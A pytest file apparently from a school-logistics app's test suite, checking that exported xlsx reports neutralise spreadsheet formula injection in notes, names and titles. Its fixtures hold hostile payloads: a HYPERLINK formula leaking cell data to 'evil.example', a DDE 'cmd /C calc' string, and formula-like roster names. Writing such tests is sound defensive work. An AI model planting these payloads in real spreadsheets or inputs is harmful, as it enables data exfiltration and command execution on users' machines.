"""Every xlsx Houqin writes keeps user text as text: no formula, DDE call or hyperlink comes
from a note or a name (issue 16, finding 2). Read back with openpyxl and from the file's XML."""

from __future__ import annotations

import re
import zipfile
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path

import pendulum
import pytest
from openpyxl import load_workbook
from openpyxl.cell.cell import Cell
from sqlalchemy import select
from sqlalchemy.orm import Session

from houqin import items
from houqin.models import Item, Person, PlanRun, School
from houqin.people import import_roster
from houqin.reports import completion, output, overdue
from houqin.reports.assessment import assess
from tests.factories import make_item, make_run
from tests.test_assessment import AFTER_Q1, STANDARD, enter
from tests.test_assessment import school as assessed_school

TZ = "Asia/Shanghai"
NOW = pendulum.datetime(2026, 11, 23, 9, 0, tz=TZ)
NOTE = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看照片")'
DDE = "=cmd|' /C calc'!A0"
NAMES = ["=1+2", "+SUM(1,2)", "-2+3", "@SUM(A1:A9)"]  # roster names as a prober typed them
HOSTILE = {NOTE, DDE, *NAMES, '=HYPERLINK("http://evil.example")'}

__all__ = ["assessed_school"]  # the assessment module's fixture, used below


def at(day: int, hour: int = 18) -> datetime:
    return pendulum.datetime(2026, 11, day, hour, 0, tz=TZ)


@pytest.fixture
def school(session: Session, tmp_path: Path) -> School:
    """A school whose roster (a CSV, imported as a head imports one) has hostile names, and a
    run whose items carry hostile notes: some done on time, some open and overdue."""
    roster = tmp_path / "roster.csv"
    lines = ["code,name,roles,supervisor,lang,active"]
    lines += [
        f'p{n},"{name.replace(chr(34), chr(34) * 2)}",,,zh-CN,yes' for n, name in enumerate(NAMES)
    ]
    roster.write_text("\n".join(lines) + "\n", encoding="utf-8")
    import_roster(session, roster, school_code="evil", school_name="示范", now=NOW, actor="zhang")
    sch = session.scalars(select(School).where(School.code == "evil")).one()
    sch.name = '=HYPERLINK("http://evil.example")'
    sch.district = "东城区"
    run = make_run(session, sch)
    run.template.title_zh = DDE
    people = {p.name: p for p in session.scalars(select(Person).where(Person.school_id == sch.id))}
    for n, name in enumerate(NAMES):
        owner = people[name]
        done = make_item(session, run, owner, due=at(10), key=f"d{n}", title_zh=NOTE, position=n)
        items.tick(session, item=done, by=owner, now=at(10, 9), note=NOTE if n % 2 else DDE)
        make_item(session, run, owner, due=at(20), key=f"o{n}", title_zh=DDE, position=10 + n)
    session.flush()
    return sch


def cells(path: Path) -> Iterator[Cell]:
    for ws in load_workbook(path).worksheets:
        assert not ws._hyperlinks, ws.title  # no hyperlink objects at all
        for row in ws.iter_rows():
            yield from row


def assert_text_only(path: Path) -> set[str]:
    """No formula anywhere; text that starts like one is a text cell marked to stay text (Excel's
    quote prefix). Returns the hostile strings found, so a test can check they were there."""
    texts = []
    for cell in cells(path):
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if isinstance(cell.value, str) and cell.value[:1] in "=+-@":
            assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.value)
            texts.append(cell.value)
    with zipfile.ZipFile(path) as xlsx:
        for name in xlsx.namelist():
            xml = xlsx.read(name).decode("utf-8")
            assert "<f>" not in xml and "<f " not in xml, name  # no formula element
            assert not re.search(r"<(\w+:)?hyperlinks?\b", xml), name  # the element, not text
            assert "ddeLink" not in xml and "externalLink" not in name, name
    return {h for h in HOSTILE if any(t.startswith(h) for t in texts)}


def test_completion_xlsx_keeps_hostile_notes_and_names_as_text(
    session: Session, school: School, tmp_path: Path
) -> None:
    run = session.scalars(select(PlanRun).where(PlanRun.school_id == school.id)).one()
    report = completion.build(session, run_id=run.id, now=NOW)
    found = assert_text_only(output.write(report, "xlsx", tmp_path / "c.xlsx"))
    assert found >= {NOTE, DDE, *NAMES, '=HYPERLINK("http://evil.example")'}


def test_overdue_digest_xlsx_keeps_hostile_names_and_titles_as_text(
    session: Session, school: School, tmp_path: Path
) -> None:
    digest = overdue.build(session, scope="district:东城区", now=NOW)
    assert len(digest.lines) == len(NAMES)  # the open items, overdue since 11-20
    found = assert_text_only(output.write(digest, "xlsx", tmp_path / "d.xlsx"))
    assert found >= {DDE, *NAMES}


def test_assessment_xlsx_has_its_own_arithmetic_as_formulas_and_notes_as_text(
    session: Session, assessed_school: School, tmp_path: Path
) -> None:
    enter(session, assessed_school, "food_hygiene_accident", "special", 1, NOTE)
    result = assess(
        session, standard=STANDARD, school=assessed_school, period="2027Q1", now=AFTER_Q1
    )
    path = output.write(result, "xlsx", tmp_path / "a.xlsx")
    ours = re.compile(r"^=(H\d+\*F\d+/5|SUM\([HI]2:[HI]\d+\))$")
    hostile = []
    for cell in cells(path):
        if cell.data_type == "f":  # only the report's own arithmetic, on the KPI sheet
            assert ours.match(str(cell.value)), (cell.coordinate, cell.value)
            assert cell.parent.title == "指标"
        if cell.value == NOTE:
            hostile.append((cell.data_type, cell.quotePrefix))
    assert hostile == [("s", True)]  # the veto's note, in the 一票否决 sheet


def test_a_control_character_in_a_note_does_not_break_the_report(
    session: Session, school: School, tmp_path: Path
) -> None:
    run = session.scalars(select(PlanRun).where(PlanRun.school_id == school.id)).one()
    item = session.scalars(select(Item).where(Item.run_id == run.id, Item.key == "o0")).one()
    items.tick(session, item=item, by=item.owner, now=at(21), note="铃声\x07响了\x1b[31m")
    report = completion.build(session, run_id=run.id, now=NOW)
    values = [c.value for c in cells(output.write(report, "xlsx", tmp_path / "c.xlsx"))]
    assert "铃声响了[31m" in values
